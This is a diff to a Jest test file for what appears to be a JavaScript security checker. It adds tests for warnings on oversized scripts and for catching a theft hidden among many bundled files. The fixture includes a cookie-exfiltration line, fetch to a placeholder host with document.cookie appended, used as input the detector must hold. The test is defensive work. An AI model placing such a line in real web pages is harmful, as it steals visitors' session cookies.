@@ -1,5 +1,5 @@
 import { describe, expect, it } from '@jest/globals';
-import { checkScript } from '../../src/analysis/checks/javascript.js';
+import { checkAllScripts, checkScript } from '../../src/analysis/checks/javascript.js';
 
 const isHeld = (source: string): boolean => checkScript(source).some(({ level }) => level === 'hold');
 
@@ -302,4 +302,29 @@ describe('the checks do not hold a script', () => {
     ['that shows a page in a dialog', `dialog.innerHTML = '<iframe src="https://e.example/docs"></iframe>';`],
     ['that waits for a text', `${news}const t = title.trim(); setTimeout(() => show(t.replace("a", "b")), 10);`],
   ])('%s', (_what, source) => expect(isHeld(source)).toBe(false));
+});
+
+describe('the checks of large scripts', () => {
+  const bundle = (length: number): string => {
+    const part = (at: number): string =>
+      `function f${at}(a, b) { const c = { a, b, d: [a, b] }; return c.d.map((e) => g(e, b)).filter((e) => e !== a); }\n`;
+    return Array.from({ length: Math.ceil(length / 110) }, (_, at) => part(at)).join('');
+  };
+  const theft = 'fetch("https://e.example/?" + document.cookie);';
+
+  it('warn about those that are too large to be followed', () => {
+    const found = checkScript(bundle(1_100_000));
+    expect(found.map(({ level, message }) => [level, message])).toEqual([
+      ['warn', 'is too large to be followed, so only its text was checked'],
+    ]);
+  });
+
+  it('find a theft among many of them', () => {
+    const texts = new Map(Array.from({ length: 30 }, (_, at) => [`web/${at}.js`, bundle(40_000)]));
+    texts.set('web/small.js', theft);
+    texts.set('web/bundle.js', `${bundle(500_000)}${theft}`);
+    const held = checkAllScripts(texts).filter(({ level }) => level === 'hold');
+    expect(held.map(({ path }) => path)).toContain('web/small.js');
+    expect(held.map(({ path }) => path)).toContain('web/bundle.js');
+  });
 });
